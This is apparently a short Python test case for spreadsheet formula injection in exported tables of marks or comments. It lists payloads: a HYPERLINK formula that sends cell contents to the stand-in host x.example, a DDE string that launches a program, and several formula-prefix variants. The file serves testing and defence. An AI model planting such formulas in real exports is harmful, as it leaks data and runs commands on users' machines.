# /// case
# about = "answers that a spreadsheet takes for formulas when a table of marks or comments is opened"
# expect = { test_describe = "zero" }
# kind = "render"
# promise = 6
# succeeds_at = []
# ///
# %% describe
# =HYPERLINK sends the neighbouring cells away; DDE starts programs
_FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1,\"marks\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1")
for _text in _FORMULAS:
    print(_text)
_calls = []

def poly_desc(W, b):
    _calls.append(1)
    text = _FORMULAS[len(_calls) % len(_FORMULAS)]
    assert len(_calls) % 2, text
    return text
